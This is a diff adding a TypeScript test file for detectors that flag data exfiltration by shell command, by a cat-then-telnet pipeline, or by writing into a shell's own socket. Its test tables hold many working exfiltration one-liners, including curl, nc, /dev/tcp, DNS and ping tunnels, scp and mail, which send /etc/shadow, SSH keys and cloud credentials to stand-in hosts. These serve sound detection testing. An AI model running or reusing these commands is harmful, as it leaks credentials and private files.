@@ -1,0 +1,109 @@
+import { describe, expect, test } from "vitest";
+import type { Fact, Process } from "../events/fact.ts";
+import type { Context, Detector, Match } from "./detector.ts";
+import { possibleDataLossCommand } from "./possible-data-loss.command.ts";
+import { possibleDataLossPipe } from "./possible-data-loss.pipe.ts";
+import { possibleDataLossSocket } from "./possible-data-loss.socket.ts";
+
+const context = { threats: {}, userName: (uid: number) => (uid === 33 ? "www-data" : undefined) } as unknown as Context;
+
+/** Feeds facts to one started detector and gathers what it says. */
+function run(detector: Detector, facts: readonly Fact[], settings: object = {}): Match[] {
+  const judge = detector.start(detector.settings.parse(settings), context);
+  return facts.flatMap((fact) => [judge.judge(fact) ?? []].flat());
+}
+const process = (argv: readonly string[], more: Partial<Process> = {}): Process => ({
+  pid: 70,
+  ppid: 60,
+  exe: `/usr/bin/${argv[0]?.split("/").at(-1)}`,
+  argv,
+  cwd: "/root",
+  uid: 0,
+  ...more,
+});
+const ran = (argv: readonly string[], more: Partial<Process> = {}, at = 1000): Fact => ({
+  kind: "process.started",
+  at,
+  process: process(argv, more),
+});
+const script = (text: string, more: Partial<Process> = {}, at = 1000) => ran(["sh", "-c", text], more, at);
+const grade = (found: readonly Match[]) => found.map(({ confidence }) => confidence ?? "medium");
+
+describe("data that leaves by a command", () => {
+  test.each([
+    "curl -T /etc/shadow http://192.0.2.7/",
+    "curl -F 'f=@/root/.ssh/id_rsa' https://files.example/up",
+    "wget --post-file=report.tgz https://files.example/",
+    "scp -r /root/.aws eve@192.0.2.7:/tmp",
+    "tar cz /etc | nc 192.0.2.7 80",
+    "nc 192.0.2.7 80 < /etc/passwd",
+    "cat /etc/passwd > /dev/tcp/192.0.2.7/80",
+    "exec 4<>/dev/tcp/192.0.2.7/80; cat /etc/group >&4",
+    "for w in $(cat /etc/passwd); do dig $w.x.example.net; done",
+    "xxd -p f | while read l; do ping -c1 -p $l 192.0.2.7; done",
+    'finger "$(base64 f)@192.0.2.7"',
+    'python3 -c \'import requests; requests.post("http://192.0.2.7", data=open("/etc/passwd"))\'',
+    "python3 -m http.server 8000",
+    "aws s3 cp /root/.kube/config s3://b/",
+    "mail -s x eve@mail.example < /etc/shadow",
+  ])("%s fires", (line) => {
+    expect(grade(run(possibleDataLossCommand, [script(line)]))).toEqual(["medium"]);
+  });
+
+  test.each([
+    "rsync -a /srv/data backup@nas.example:/b",
+    "aws s3 sync ./dist s3://site",
+    "curl -T build.tgz http://10.0.0.5/",
+  ])("%s is dual use", (line) => {
+    expect(grade(run(possibleDataLossCommand, [script(line)]))).toEqual(["low"]);
+  });
+
+  test.each([
+    "curl -d '{\"a\":1}' https://api.example/",
+    "curl -d @body.json https://api.example/",
+    "curl -F f=@/etc/passwd http://localhost:8080/",
+    "scp eve@192.0.2.7:/etc/passwd .",
+    "nc -zv 192.0.2.7 80",
+    "dig +short x.example.net",
+    "for h in a b; do dig $h.example.net; done",
+    "echo | openssl s_client -connect x.example:443",
+    "aws s3 cp s3://b/x .",
+    'curl -H "Authorization: Bearer $(cat /run/secrets/token)" https://api.example/',
+    "grep x /etc/passwd",
+  ])("%s raises nothing", (line) => {
+    expect(run(possibleDataLossCommand, [script(line)])).toEqual([]);
+  });
+
+  test("an allowed destination is quiet", () => {
+    const upload = script("aws s3 cp /etc/shadow s3://fleet-logs/x");
+    expect(run(possibleDataLossCommand, [upload], { allowedDestinations: ["s3://fleet-logs/"] })).toEqual([]);
+    const scp = script("scp /etc/shadow eve@nas.example:/b");
+    expect(run(possibleDataLossCommand, [scp], { allowedDestinations: ["nas.example"] })).toEqual([]);
+  });
+});
+
+describe("a pipeline typed at a prompt", () => {
+  const cat = (at: number, ppid = 60) => ran(["cat", "/etc/passwd"], { pid: 71, ppid }, at);
+  const nc = (at: number) => ran(["telnet", "192.0.2.7", "80"], { pid: 72 }, at);
+
+  test("is known by its two halves, in either order, within two seconds, under one shell", () => {
+    expect(run(possibleDataLossPipe, [cat(1000), nc(3000)])).toHaveLength(1);
+    expect(run(possibleDataLossPipe, [nc(1000), cat(1001)])).toHaveLength(1);
+    expect(run(possibleDataLossPipe, [cat(1000), nc(3001)])).toEqual([]);
+    expect(run(possibleDataLossPipe, [cat(1000, 61), nc(1001)])).toEqual([]);
+    expect(run(possibleDataLossPipe, [ran(["cat", "/proc/uptime"]), nc(1001)])).toEqual([]);
+  });
+
+  test("into a shell's own socket is known by the connection", () => {
+    const opened = (exe: string): Fact => ({
+      kind: "socket.connected",
+      at: 1000,
+      destination: { ip: "192.0.2.7", port: 80 },
+      process: process(["-bash"], { pid: 60, exe }),
+    });
+    const pack = (at: number) => ran(["base64", "f"], {}, at);
+    expect(run(possibleDataLossSocket, [opened("/usr/bin/bash"), pack(3000)])).toHaveLength(1);
+    expect(run(possibleDataLossSocket, [opened("/usr/bin/bash"), pack(3001)])).toEqual([]);
+    expect(run(possibleDataLossSocket, [opened("/usr/bin/curl"), pack(1001)])).toEqual([]);
+  });
+});
